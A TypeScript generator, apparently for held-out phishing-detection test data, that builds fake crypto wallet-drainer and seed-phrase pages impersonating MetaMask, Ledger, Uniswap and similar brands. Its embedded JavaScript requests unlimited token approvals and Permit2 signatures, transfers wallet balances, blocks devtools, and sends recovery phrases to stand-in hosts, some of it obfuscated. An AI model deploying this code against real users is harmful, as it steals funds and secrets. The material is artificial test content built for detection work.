/** Wallet drainers and forms for seed phrases. */
import { chance, picture } from '../chance.ts';
import { base64, stringArray } from '../obfuscation.ts';
import type { Builders, HeldOut } from '../report.ts';

const DRAINS: [string, string, string, string][] = [
  [
    'https://claim-arbitrum.foundation.example.app/',
    'Arbitrum Airdrop',
    'Claim your $ARB before the window closes',
    'approve',
  ],
  ['https://app-uniswaap.org/', 'Uniswap V4 reward', 'You are eligible for 1,240 UNI', 'permit'],
  [
    'https://opensea-migrate.io.example.help/',
    'OpenSea: migrate listings',
    'Migrate your NFTs for free before Friday',
    'nft',
  ],
  ['https://azuki-free-mint.xyz/', 'Azuki Elementals free mint', '8,123 / 10,000 minted', 'nft'],
  [
    'https://blast-points.vercel.app/claim',
    'Blast points',
    'Connect wallet to check eligibility',
    'obfuscated',
  ],
  ['https://lido-restake.pages.dev/', 'Restake', 'Boost your APR to 38 %', 'permit'],
  ['https://jup-claim.sol.example.fun/', 'Jupiter airdrop', 'Claim JUP', 'solana'],
  ['https://tron-energy-rent.example.cc/', 'USDT 能量租赁', '授权钱包即可领取', 'tron'],
  [
    'https://zksync-nodes.example.world/ru',
    'zkSync раздача',
    'Подключите кошелёк, чтобы получить токены',
    'obfuscated',
  ],
  [
    'https://safe-revoke-cash.com/',
    'Revoke malicious approvals',
    'Your wallet is at risk! Revoke now',
    'approve',
  ],
];
const CODE: Record<string, (r: ReturnType<typeof chance>) => string> = {
  approve: (r) =>
    `const c=new web3.eth.Contract(abi,t.address);await c.methods.increaseAllowance("0x${r.hex(40)}","115792089237316195423570985008687907853269984665640564039457584007913129639935").send({from:acc});await fetch("https://gate.example/api/t",{method:"POST",body:JSON.stringify({w:acc,t:t.address})});`,
  permit: (r) =>
    `const sig=await signer._signTypedData({name:"Permit2",chainId,verifyingContract:"0x000000000022D473030F116dDEE9F6B43aC78BA3"},{PermitBatch:[{name:"details",type:"PermitDetails[]"},{name:"spender",type:"address"},{name:"sigDeadline",type:"uint256"}]},{details:tokens.map(t=>({token:t.a,amount:"1461501637330902918203684832716283019655932542975",expiration:"9999999999",nonce:0})),spender:"0x${r.hex(40)}",sigDeadline:"9999999999999"});await axios.post("https://drain.example/permit",{sig,me});`,
  nft: (r) =>
    `for(const n of nfts.sort((a,b)=>b.floor-a.floor)){const k=new ethers.Contract(n.contract,["function setApprovalForAll(address,bool)"],signer);await k.setApprovalForAll("0x${r.hex(40)}",true)}const bal=await provider.getBalance(me);await signer.sendTransaction({to:"0x${r.hex(40)}",value:bal.sub(gas)});`,
  obfuscated: (r) =>
    stringArray(
      [
        'eth_requestAccounts',
        'eth_sendTransaction',
        'setApprovalForAll',
        'SecurityUpdate()',
        'transferFrom',
        'https://drain.example/s',
        'sendMessage',
        'Connect',
      ],
      r.hex(5),
      true,
    ),
  solana: (r) =>
    `const bal=await connection.getBalance(pk);const tx=new solanaWeb3.Transaction().add(solanaWeb3.SystemProgram.transfer({fromPubkey:pk,toPubkey:new solanaWeb3.PublicKey("${r.text(44)}"),lamports:bal*0.99}));for(const a of accounts.value){tx.add(splToken.createSetAuthorityInstruction(a.pubkey,pk,2,new solanaWeb3.PublicKey("${r.text(44)}")))}const s=await window.solana.signAllTransactions([tx]);`,
  tron: (r) =>
    `const k=await window.tronWeb.contract().at("TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t");await k.approve("T${r.text(33)}","90000000000000000000000000000").send({feeLimit:1e8});`,
};
const drainers = () =>
  DRAINS.map(([url, title, text, kind]): HeldOut => {
    const r = chance(url);
    return {
      url,
      html: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>${title}</title><meta property="og:image" content="./og.png"><script src="https://cdn.jsdelivr.net/npm/ethers@5.7.2/dist/ethers.umd.min.js"></script><script src="https://unpkg.com/web3modal@1.9.12/dist/index.js"></script><script src="./${r.hex(8)}.js?v=${r.below(99)}"></script></head><body><img src="${picture(url, 400)}"><h1>${title}</h1><p>${text}</p><p id="left">00:14:59</p><button class="interact-button claim">Connect Wallet</button><script>document.querySelector(".claim").onclick=async()=>{const provider=new ethers.providers.Web3Provider(window.ethereum||window.solana);await provider.send("eth_requestAccounts",[]);const signer=provider.getSigner(),me=await signer.getAddress(),acc=me;${CODE[kind]?.(r) ?? ''}};document.onkeydown=e=>!(e.key==="F12"||(e.ctrlKey&&e.shiftKey&&e.key==="I"));</script></body></html>`,
    };
  });

const SEEDS: [string, string, string, string, 12 | 24 | 1][] = [
  [
    'https://metamask-support-verify.io/restore',
    'en',
    'MetaMask',
    'Your wallet has been suspended. Import with your Secret Recovery Phrase to verify.',
    12,
  ],
  [
    'https://trezor-suite-firmware.com/start',
    'en',
    'Trezor',
    'Firmware update: enter your recovery seed to continue',
    24,
  ],
  [
    'https://ledger-live-recover.web.app/',
    'fr',
    'Ledger',
    'Saisissez votre phrase de récupération de 24 mots',
    24,
  ],
  [
    'https://trustwallet-verify.example.ink/',
    'es',
    'Trust Wallet',
    'Introduce tu frase de recuperación para validar tu billetera',
    1,
  ],
  [
    'https://walletconnect-dapps-fix.netlify.app/wallets',
    'en',
    'WalletConnect',
    'Rectify – Connect manually: Phrase / Keystore JSON / Private Key',
    1,
  ],
  [
    'https://phantom-reset.example.life/',
    'de',
    'Phantom',
    'Geben Sie Ihre geheime Wiederherstellungsphrase ein',
    12,
  ],
  [
    'https://tonkeeper-bonus.example.su/',
    'ru',
    'Tonkeeper',
    'Введите 24 секретных слова, чтобы получить бонус',
    24,
  ],
  ['https://imtoken-anquan.example.ltd/', 'zh', 'imToken', '请输入助记词以升级钱包', 1],
];
const seeds = () =>
  SEEDS.map(([url, lang, brand, text, words], n): HeldOut => {
    const r = chance(url);
    const fields =
      words === 1
        ? '<textarea name="phrase" placeholder="Enter your recovery phrase, words separated by spaces" required></textarea><textarea name="keystore"></textarea><input type="password" name="privatekey">'
        : Array.from(
            { length: words },
            (_, i) =>
              `<label>${i + 1}. <input name="word${i + 1}" type="${n % 2 ? 'password' : 'text'}" autocomplete="off"></label>`,
          ).join('');
    const sink = [
      `<script src="https://smtpjs.com/v3/smtp.js"></script><script>document.forms[0].onsubmit=function(e){e.preventDefault();Email.send({SecureToken:"${r.hex(8)}",To:'box@mail.example',From:"x@mail.example",Subject:"${brand}",Body:[...new FormData(this).values()].join(' ')}).then(()=>alert('Error 500'))}</script>`,
      `<script>document.forms[0].onsubmit=async e=>{e.preventDefault();await fetch(atob('${base64('https://api.emailjs.com/api/v1.0/email/send')}'),{method:'POST',body:JSON.stringify({user_id:'${r.text(10)}',p:[...new FormData(e.target).values()].join(' ')})})}</script>`,
      '',
    ][n % 3];
    return {
      url,
      html: `<!doctype html><html lang="${lang}"><head><meta charset="utf-8"><title>${brand}</title></head><body><img src="${picture(url, 500, 'svg+xml')}" alt="${brand}"><h1>${brand}</h1><p>${text}</p><form method="post" action="${n % 3 === 2 ? 'https://formsubmit.co/el/tovuwa' : 'process.php'}">${fields}<button>Continue</button></form>${sink}</body></html>`,
    };
  });
export const wallets: Builders = { drainers, seeds };
